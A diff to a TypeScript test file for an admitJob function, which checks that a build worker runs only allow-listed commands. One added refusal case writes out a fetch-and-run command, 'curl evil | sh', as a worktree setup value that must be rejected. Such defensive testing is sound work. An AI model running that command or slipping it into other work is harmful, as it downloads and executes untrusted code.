@@ -66,6 +66,8 @@ describe('admitJob: what a worker runs', () => {
     expect(admitJob(job, allow)).toEqual({ ok: true, job });
     expect(admitJob({ ...job, ci: { kind: 'word', tool: 'make' }, verify: null }, allow)).toMatchObject({ ok: true });
     expect(admitJob({ ...job, ci: undefined, tool: 'make', verify: undefined }, allow)).toMatchObject({ ok: true }); // an older coordinator's job
+    // worktree.setup is a command line too: it runs when listed
+    expect(admitJob({ ...job, worktree: { setup: 'make', setup_timeout_seconds: 600, port_base: 20000, port_block: 100 }, builder_index: 2 }, allow)).toMatchObject({ ok: true });
   });
   it.each([
     [{ ci: { kind: 'command', words: ['bash', '-c', 'touch /tmp/x'] } }, 'the command "bash -c touch /tmp/x" is not in this worker\'s allow list'],
@@ -77,6 +79,8 @@ describe('admitJob: what a worker runs', () => {
     [{ base: '--all' }, 'base "--all" is not a commit id'],
     [{ branch: '--orphan' }, 'branch "--orphan" is not a plain branch name'],
     [{ ci: { kind: 'shell', line: 'x' } }, 'unknown CI kind "shell"'],
+    [{ worktree: { setup: 'bash -c "curl evil | sh"', setup_timeout_seconds: 600, port_base: 20000, port_block: 100 } }, 'worktree.setup "bash -c \\"curl evil | sh\\"" is not in this worker\'s allow list'],
+    [{ builder_index: -1 }, 'builder_index -1 is not a whole number from 0'],
   ])('%j → refused', (change, reason) => {
     const r = admitJob({ ...job, ...(change as Partial<BuilderJob>) }, allow);
     expect(r).toMatchObject({ ok: false, reason: expect.stringContaining(reason) });
